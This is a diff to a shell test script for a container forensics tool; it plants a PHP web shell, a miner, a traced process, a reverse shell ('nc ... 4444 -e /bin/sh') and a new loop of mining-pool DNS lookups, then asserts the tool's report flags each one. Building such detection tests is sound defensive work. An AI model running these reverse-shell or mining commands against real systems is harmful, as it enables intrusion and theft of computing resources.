@@ -11,12 +11,14 @@
 #   - a PHP web shell dropped in the web root (var/www/shell.php);
 #   - the EICAR string only in the heap of a process (eicarheap builds it at
 #     run time, never whole on disk; it tells its address);
-#   - a process traced by another of the container (tracer PTRACE_ATTACHes).
+#   - a process traced by another of the container (tracer PTRACE_ATTACHes);
+#   - a loop looking up a mining pool's name (nobody answers: the question is
+#     in the pcap).
 # Asserted from report.json: YARA hits in the files (the web shell, the miner
 # binary; none of EICAR on disk), in the core of the right pid at the address
 # eicarheap told, inside its [heap] mapping, and in the pcap's stream to the
-# pool (the login, its 5-tuple, direction and stream offset); the flow finding
-# of the pool's port; proc.shell-socket-stdio, proc.exe-in-tmp, proc.traced.
+# pool (the login, its 5-tuple, direction and stream offset); the flow findings
+# of the pool's port and name; proc.shell-socket-stdio, proc.exe-in-tmp, proc.traced.
 # Then a clean container captured the same way: no finding at or above medium.
 . "$(dirname "$0")/../lib/lib.sh"
 . "$CONTAIN_TOP/tests/lib/containers.sh"
@@ -105,6 +107,7 @@ runc_exec "$A" sh -c '
 	(nc '"$POOL"' 4444 -e /bin/sh >/dev/null 2>&1 &)
 	(eicarheap --addr-file /tmp/.eicar.addr >/dev/null 2>&1 &)
 	(/tmp/tracer /bin/sleep 100000 >/dev/null 2>&1 &)
+	(while :; do nslookup xmr.pool.supportxmr.com '"$POOL"'; sleep 1; done >/dev/null 2>&1 &)
 ' </dev/null
 ok "A: the miner logged in to the pool" wait_for 15 grep -q '"method":"login"' "$T_DIR/pool.log"
 ok "A: the reverse shell answered the catcher" wait_for 15 grep -q 'contain-shell-42' "$T_DIR/shell.log"
@@ -171,6 +174,8 @@ like "$(jq -r '[.findings[] | select(.id == "proc.traced")][0].detail' "$J")" "t
 # the flows
 ok "A: flow.mining-pool: the connections to the pool's port" \
 	jq -e --arg d "$POOL:3333" '[.findings[] | select(.id == "flow.mining-pool" and .path == $d)] | length == 1' "$J"
+is "$(sev_of flow.mining-pool xmr.pool.supportxmr.com)" high "A: flow.mining-pool: a pool's name looked up (high)"
+like "$(jq -c '[.network.dns[].questions[].name]' "$J")" 'xmr\.pool\.supportxmr\.com' "A: network.dns: the pool's name"
 ok "A: network.flows: container -> pool:3333" \
 	jq -e --arg s "$CTRIP" --arg d "$POOL" '[.network.flows[] | select(.src == $s and .dst == $d and .dport == 3333)] | length >= 1' "$J"
 
